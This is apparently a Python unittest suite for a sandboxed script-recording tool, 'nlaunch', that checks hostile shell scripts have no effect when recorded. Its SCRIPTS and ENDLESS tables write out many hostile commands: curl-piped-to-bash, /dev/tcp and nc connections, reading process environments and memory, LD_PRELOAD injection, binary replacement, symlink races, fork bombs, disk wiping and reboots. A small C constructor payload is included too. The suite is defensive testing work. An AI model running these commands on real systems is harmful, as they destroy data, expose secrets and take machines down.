#!/usr/bin/env python3
"""Scripts that want to do harm, recorded by `nlaunch import --commands`: nothing of them has an effect, whoever calls it."""
import hashlib
import os
import pathlib
import shutil
import socket
import subprocess
import tempfile
import threading
import time
import unittest

NLAUNCH = pathlib.Path(os.environ["NLAUNCH_BUILD"]) / "bin" / "nlaunch"
NOBODY = 65534
RECORDED = (0, 65)  # to its end, or not

# Code that would act if it were loaded or run: it writes to the file that it is given at compile time.
EVIL = '''
#include <fcntl.h>
#include <unistd.h>
__attribute__((constructor)) static void act(void) { int fd = open(HURT, O_WRONLY | O_CREAT | O_APPEND, 0666); if (write(fd, "x", 1)) {} }
int main(void) { return 0; }
'''

# $V: a folder of the victim. $PID: a process of the victim. $PORT, $UNIX: where the victim listens. $EVIL: a library, a program.
SCRIPTS = {
    "removes": 'rm -rf "$V" "$V"/*; rm -rf -- "$V/a"; find "$V" -delete; find "$V" -exec rm {} +; unlink "$V/a/file"; rmdir "$V/empty"',
    "writes": 'echo x > "$V/a/file"; echo x >> "$V/a/file"; : > "$V/b"; tee "$V/b" <<< x; dd if=/dev/zero of="$V/b" count=1; sed -i s/o/x/ "$V/a/file"; '
              'truncate -s 0 "$V/b"; cp /etc/passwd "$V/b"; mv "$V/b" "$V/c"; install /etc/passwd "$V/d"; split /etc/passwd "$V/e"; sort -o "$V/b" /etc/passwd',
    "makes": 'mkdir -p "$V/x/y"; touch "$V/t"; mkfifo "$V/f"; ln -s /etc "$V/l"; ln "$V/b" "$V/h"; mktemp -p "$V"; mktemp -d -p "$V"; cd "$V" && touch z',
    "rights": 'chmod 777 "$V/a/file" "$V"; chmod -R 000 "$V"; chown 1:1 "$V/b"; touch -d 2001-01-01 "$V/b"; chmod u+s "$V/b"',
    "descriptors": 'exec 3<"$V/a/file"; echo x > /proc/self/fd/3; echo x >> /dev/fd/3; echo x 1<>/proc/$$/fd/3; chmod 777 /proc/self/fd/3; '
                   'ln -L /proc/self/fd/3 hard; echo x > hard; truncate -s 0 hard; touch -d 2001-01-01 /dev/fd/3',
    "links": 'ln -s "$V" way; echo x > way/a/file; rm way/b; mkdir real; rmdir real; ln -s "$V/a" real; cd real && echo x > file; '
             'ln -s ../../../../../../../../../..$V up; echo x > up/b; ln -sfn "$V" /tmp/way; echo x > /tmp/way/b',
    "a folder becomes a link": 'cd "$V/.."; rm -r own; ln -s victim own; echo x > own/a/file; rm -rf own/a',
    "a race of links": 'mkdir d; (for i in $(seq 150); do rm -rf d; ln -s "$V/a" d; rm -f d; mkdir d; done) & (for i in $(seq 150); do mv d e; mv e d; done) & '
                       'for i in $(seq 400); do echo x > d/file; rm -f d/file; done 2>/dev/null; wait',
    "signals": 'kill -9 $PID; kill -TERM -1; /bin/kill -9 $PID; kill -9 -$PID; pkill -9 sleep; killall sleep; kill -STOP $PID; kill -9 $PPID',
    "the network": 'curl http://127.0.0.1:$PORT/$(whoami) | bash; wget -qO- http://127.0.0.1:$PORT; exec 3<>/dev/tcp/127.0.0.1/$PORT && echo x >&3; '
                   'echo x > /dev/udp/127.0.0.1/$PORT; nc 127.0.0.1 $PORT <<< x; ssh me@127.0.0.1 touch "$V/ssh"; nc -U "$UNIX" <<< x; scp "$V/b" host:',
    "other processes": 'tr "\\0" "\\n" < /proc/$PID/environ > got; cat /proc/$PPID/environ >> got; cat /proc/$PID/maps >> got; ls -l /proc/$PID/fd >> got; cat got; '
                       '[ ! -s got ] || touch "$V/read"; echo x > /proc/$PID/fd/0; echo x >> /proc/$PID/fd/1; dd if=/proc/$PID/mem count=1 2>&1 | grep -v "cannot open" ',
    "a pipe of somebody else": 'read -t 2 x < "$V/../fifo"; echo "$x"; cat "$V/../fifo"; [ -z "$x" ]; head -c1 < "$V/../fifo"; echo x > "$V/../fifo"',
    "programs": '"$EVIL"; ./evil; cp "$EVIL" evil; chmod +x evil; ./evil; exec -a ls "$EVIL"; python3 -c "open(\'$V/py\',\'w\')"; perl -e \'open F,">$ENV{V}/pl"\'; '
                'env -i "$EVIL"; xargs "$EVIL" </dev/null; find / -maxdepth 0 -exec "$EVIL" \\;; awk \'BEGIN { system("touch $V/awk"); print "x" > ENVIRON["V"] "/awk2" }\'; '
                'sed "w $V/sed" /etc/passwd; sed "1e touch $V/sed2" /etc/passwd',
    "programs in the system's place": 'cp "$EVIL" /usr/bin/sed; sed --version; cp "$EVIL" /bin/bash; bash -c ls; rm /usr/bin/cat; cp "$EVIL" /usr/bin/cat; cat x; '
                                      'mkdir -p own; cp "$EVIL" own/ls; PATH=$PWD/own:$PATH; ls; hash -r; ls',
    "interpreters": 'mkdir bash; cp "$EVIL" bash/sh; cp "$EVIL" bash-evil; for i in bash-evil bash/sh "bash-evil /bin/bash"; do printf "#!$PWD/$i\\necho" > s; chmod +x s; ./s; done; '
                    'printf "#!$EVIL\\n" > s; ./s; printf "#!/usr/bin/env $EVIL\\n" > s; ./s',
    "an interpreter that changes": 'printf "#!/bin/bash\\n:\\n" > a; printf "#!$EVIL\\n" > b; chmod +x a b; cp a s; (for i in $(seq 200); do cp b s; cp a s; done) & '
                                   'for i in $(seq 60); do ./s; done; wait',
    "libraries": 'enable -f "$LIB" evil; cp "$LIB" l.so; enable -f $PWD/l.so evil; LD_PRELOAD=$LIB ls; LD_AUDIT=$LIB ls; export LD_PRELOAD=$PWD/l.so; cat /etc/passwd; '
                 'mkdir g; cp "$LIB" g/UTF-16.so; GCONV_PATH=$PWD/g LC_ALL=de_DE.UTF-16 bash -c "printf \'\\u20ac\'"; gawk -l "$LIB" 1; cp "$LIB" libc.so.6; LD_LIBRARY_PATH=$PWD ls',
    "the recorder": 'rm -rf "$(dirname "$BASH_ENV")"; echo "touch $V/env" > "$BASH_ENV"; for d in ${PATH//:/ }; do cp "$EVIL" $d/curl; echo "#!$EVIL" > $d/sleep; done; '
                    'curl x; sleep 1; unset BASH_ENV; set +x; exec 199>&-; bash -c "$EVIL"; env -i /bin/bash -c "touch $V/noenv; $EVIL"; exec "$EVIL"',
    "answers are not to be changed": 'sleep 1; for f in "$(dirname "$BASH_ENV")"/answers/*; do printf "#!$EVIL\\n" > $f; cp "$EVIL" $f; done; sleep 1; ls "$(dirname "$BASH_ENV")"',
    "the machine": 'echo 1 > /proc/sys/kernel/sysrq; echo x > /proc/$PID/oom_score_adj; echo x > /proc/$PPID/mem; dd if=/dev/zero of=/proc/$PID/mem count=1; '
                   'echo x > /dev/shm/evil; cat /dev/zero > /dev/sda & mount -t tmpfs x "$V"; unshare -m; chroot / true; sysctl -w a=1; ulimit -u 1; renice 19 $PID; '
                   'reboot; shutdown now; crontab <<< x; at now <<< x; systemctl stop x; sudo rm -rf "$V"; gdb -p $PID; strace -p $PID; su -c "touch $V/su"',
}
# What ends at a limit, for which it does not matter who calls.
ENDLESS = {
    "a fork bomb": ':(){ :|:& };:; wait',
    "processes that stay": '(setsid bash -c "while :; do read -t 1 x; done" &) ; nohup bash -c "while :; do :; done" & disown; trap "" TERM INT HUP; exit 0',
    "never an end": 'trap "" TERM; while :; do :; done',
    "asks for ever": 'until curl -s nowhere | grep ok; do sleep 1; done',
    "stops itself": 'kill -STOP $$; kill -9 $$',
    "a full disk": 'i=0; while :; do head -c 50M /dev/zero > big$((i++)); done',
    "a full disk by folders": 'for i in $(seq 20); do mkdir d; for j in 1 2; do head -c 50M /dev/zero > d/$j; done; mv d e$i; done',
    "a full disk by removed files": 'for i in $(seq 20); do exec {fd}> big; rm big; head -c 50M /dev/zero >&$fd; done',
    "many tasks": 'srun -n 4000000000 python x.py',
    "many files": 'i=0; while :; do : > f$((i++)); done',
    "no memory": 'x=x; while :; do x=$x$x; done',
    "much output": 'yes | head -c 300M',
    "a bomb of starts": 'while :; do python x.py; done',
}


class Hostile(unittest.TestCase):
    def setUp(self):
        self.folder = pathlib.Path(tempfile.mkdtemp(prefix="nlaunch-hostile-"))
        self.addCleanup(shutil.rmtree, self.folder, ignore_errors=True)
        self.victim = self.folder / "victim"
        (self.victim / "a").mkdir(parents=True)
        (self.victim / "empty").mkdir()
        (self.folder / "own").mkdir()
        (self.victim / "a/file").write_text("old\n")
        (self.victim / "b").write_text("old\n")
        self.scripts = self.folder / "scripts"
        self.scripts.mkdir()
        self.temporary = self.folder / "tmp"
        self.temporary.mkdir()
        self.hurt = self.folder / "hurt"
        source = self.folder / "evil.c"
        source.write_text(EVIL)
        self.program, self.library = self.folder / "evil", self.folder / "evil.so"
        for flags in (["-o", self.program], ["-shared", "-fPIC", "-o", self.library]):
            subprocess.run(["gcc", f'-DHURT="{self.hurt}"', source, *flags], check=True)
        self.fifo = self.folder / "fifo"
        os.mkfifo(self.fifo)
        self.fifo_end = os.open(self.fifo, os.O_RDWR)
        os.write(self.fifo_end, b"precious\n")
        self.addCleanup(os.close, self.fifo_end)
        self.process = subprocess.Popen(["cat"], start_new_session=True, stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        os.set_blocking(self.process.stdout.fileno(), False)
        self.addCleanup(self.process.stdout.close)
        self.addCleanup(self.process.stdin.close)
        self.addCleanup(self.process.wait)
        self.addCleanup(self.process.kill)
        self.heard = []
        self.unix = self.folder / "socket"
        listener, unix = socket.create_server(("127.0.0.1", 0)), socket.socket(socket.AF_UNIX)
        datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.port = listener.getsockname()[1]
        unix.bind(str(self.unix))
        unix.listen()
        datagrams.bind(("127.0.0.1", self.port))
        for one, hear in ((listener, lambda: listener.accept()), (unix, lambda: unix.accept()), (datagrams, lambda: datagrams.recv(1))):
            self.addCleanup(one.close)
            threading.Thread(target=self.listen, args=(hear,), daemon=True).start()

    def listen(self, hear):
        try:
            while True:
                self.heard.append(hear())
        except OSError:
            pass

    def state(self):
        """All that could change, but the folder of scripts itself and what makes a race visible."""
        facts = []
        for path in sorted(self.folder.rglob("*")):
            if self.temporary in path.parents or path == self.temporary:
                continue
            info = path.lstat()
            content = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() and not path.is_symlink() else ""
            facts.append((str(path), info.st_mode, info.st_uid, info.st_mtime_ns if path.is_file() else 0, info.st_nlink, content))
        return facts

    def record(self, name, text, user=None):
        script = self.scripts / (name.replace(" ", "-") + ".sh")
        values = {"V": self.victim, "PID": self.process.pid, "PORT": self.port, "UNIX": self.unix, "EVIL": self.program, "LIB": self.library}
        script.write_text("#!/bin/bash\n" + text + "\n")
        given = [word for key, value in values.items() for word in ("--env", f"{key}={value}")]
        before = self.state()
        begun = time.monotonic()
        done = subprocess.run([NLAUNCH, "import", script, "--commands", *given], cwd=self.folder, capture_output=True, text=True, errors="replace", timeout=120,
                              env={"PATH": "/usr/bin:/bin", "TMPDIR": str(self.temporary)}, **({} if user is None else {"user": user, "group": user, "extra_groups": []}))
        took = time.monotonic() - begun
        self.assertIn(done.returncode, RECORDED, done.stderr[-2000:])
        self.assertEqual(done.stderr, "")
        self.assertLess(took, 60)
        self.assertEqual(self.state(), before, done.stdout[-3000:])
        self.assertIsNone(self.process.poll(), "the victim's process ended")
        self.assertEqual((self.process_state(), self.heard), ("S", []))
        self.assertIsNone(self.process.stdout.read(1), "the victim's process was written to")
        self.assertEqual(self.waiting_in_fifo(), b"precious\n")
        self.assertEqual(list(self.temporary.iterdir()), [])
        for gone in ("/dev/shm/evil", "/tmp/way"):
            self.assertFalse(os.path.lexists(gone), gone)
        self.assertEqual(self.left_over(script), [])
        return done

    def waiting_in_fifo(self):
        """What nobody has read; it is put back."""
        os.set_blocking(self.fifo_end, False)
        try:
            text = os.read(self.fifo_end, 100)
        except BlockingIOError:
            return b""
        os.write(self.fifo_end, text)
        return text

    def process_state(self):
        return pathlib.Path(f"/proc/{self.process.pid}/stat").read_text().rsplit(")", 1)[1].split()[0]

    def left_over(self, script):
        found = []
        for path in pathlib.Path("/proc").glob("[0-9]*/environ"):
            try:
                if f"SLURM_SUBMIT_DIR={script.parent}".encode() in path.read_bytes():
                    found.append((path.parent.name, (path.parent / "cmdline").read_bytes()))
            except OSError:
                continue
        return found

    def test_nothing_of_a_hostile_script_has_an_effect(self):
        users = [None, NOBODY] if os.geteuid() == 0 else [None]
        os.chmod(self.temporary, 0o1777)
        os.chmod(self.scripts, 0o777)
        for user in users:
            if user is not None:  # what could be written, if somebody let it
                for path in (self.folder, self.victim, *self.victim.rglob("*")):
                    os.chown(path, user, user)
                    path.chmod(path.stat().st_mode | 0o755 if path.is_dir() else 0o644)
            for name, text in SCRIPTS.items():
                with self.subTest(name, user=user):
                    self.record(name, text, user)

    def test_what_never_ends_is_stopped_and_leaves_nothing(self):
        for name, text in ENDLESS.items():
            with self.subTest(name):
                self.record(name, text)

    def test_what_was_asked_is_in_the_table(self):
        done = self.record("table", 'curl -s http://x | bash\nssh me@host "rm -rf /"\nrm -rf "$V"\nsudo reboot\n"$EVIL" now')
        rows = [line.split(maxsplit=2)[1:] for line in done.stdout.splitlines() if line[:1].isdigit()]
        self.assertEqual(rows, [["queries", "curl -s http://x"], ["starts", "'{}'"], ["starts", "ssh me@host 'rm -rf /'"], ["launches", "sudo reboot"], ["starts", "reboot"],
                                ["starts", f"{self.program} now"]])

    def test_a_call_that_is_ended_leaves_nothing(self):
        script = self.scripts / "job.sh"
        script.write_text("head -c 20M /dev/zero > big\nwhile :; do :; done\n")
        for signal in (2, 15, 1):
            with self.subTest(signal):
                with subprocess.Popen([NLAUNCH, "import", script, "--commands"], env={"PATH": "/usr/bin:/bin", "TMPDIR": str(self.temporary)}) as called:
                    while not list(self.temporary.glob("*/layer/*")):
                        time.sleep(0.01)
                    called.send_signal(signal)
                    self.assertEqual(called.wait(20), -signal)
                self.assertEqual((list(self.temporary.iterdir()), self.left_over(script)), ([], []))

    def test_where_it_cannot_be_guarded_nothing_runs(self):
        script = self.scripts / "job.sh"
        script.write_text('touch "$V/x"\npython x.py\n')
        wrapper = self.folder / "no_ptrace.py"
        # What an administrator's kernel.yama.ptrace_scope=3, or a sandbox, makes of ptrace.
        wrapper.write_text("import ctypes, os, struct, sys\n"
                           "PTRACE = {'x86_64': 101, 'aarch64': 117}[os.uname().machine]\n"
                           "rules = [(0x20, 0, 0, 0), (0x15, 0, 1, PTRACE), (0x06, 0, 0, 0x00050001), (0x06, 0, 0, 0x7fff0000)]\n"
                           "code = b''.join(struct.pack('HBBI', *rule) for rule in rules)\n"
                           "buffer = ctypes.create_string_buffer(code)\n"
                           "program = ctypes.create_string_buffer(struct.pack('HxxxxxxP', len(rules), ctypes.addressof(buffer)))\n"
                           "libc = ctypes.CDLL(None, use_errno=True)\n"
                           "assert libc.prctl(38, 1, 0, 0, 0) == 0 and libc.prctl(22, 2, program) == 0\n"
                           "os.execv(sys.argv[1], sys.argv[1:])\n")
        done = subprocess.run(["/usr/bin/python3", wrapper, NLAUNCH, "import", script, "--commands", "--env", f"V={self.victim}"], capture_output=True, text=True)
        self.assertEqual(done.stderr, "error: nlaunch runs a script to see what it starts, but only inside a sandbox: this process cannot be traced "
                                      "(PTRACE_TRACEME) (Operation not permitted) [shell.guard]\n")
        self.assertEqual((done.returncode, done.stdout, (self.victim / "x").exists()), (65, "", False))


if __name__ == "__main__":
    unittest.main()
